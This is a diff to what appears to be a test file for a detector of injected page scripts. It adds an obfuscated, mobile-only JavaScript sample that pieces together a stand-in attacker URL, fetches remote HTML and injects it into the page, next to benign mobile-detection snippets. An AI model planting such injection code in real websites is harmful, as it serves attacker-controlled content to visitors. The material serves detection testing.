@@ -52,6 +52,10 @@ CONTENTS = [
         f"'{b64(EVIL)}'));x.onload=function(){{document.body.innerHTML=x.responseText}};x.send()}}"
     ),
 ]
+CONTENTS.append(
+    "(()=>{const q=matchMedia('(max-width:700px)');if(!q.matches)return;const p=['https:/','/ja',"
+    "'hat.exa','mple/a'].join('');fetch(p).then(r=>r.text()).then(h=>{k.innerHTML=h})})()"
+)
 LOADERS = [
     (news("cdn.temaku.example"), ""),
     (news("cdn.jahat.example"), CREDIT),
@@ -98,6 +102,7 @@ def test_answers_that_are_no_pages_or_from_an_open_address(source: str) -> None:
         "if(screen.width<700)menu()",
         "if(screen.width<700){menu()}",
         "var t='ontouchstart' in window;",
+        "function menu(){if(innerWidth>700)return;buka()}",
         "if(/Android/.test(navigator.userAgent))document.body.className='hp';",
     ],
 )
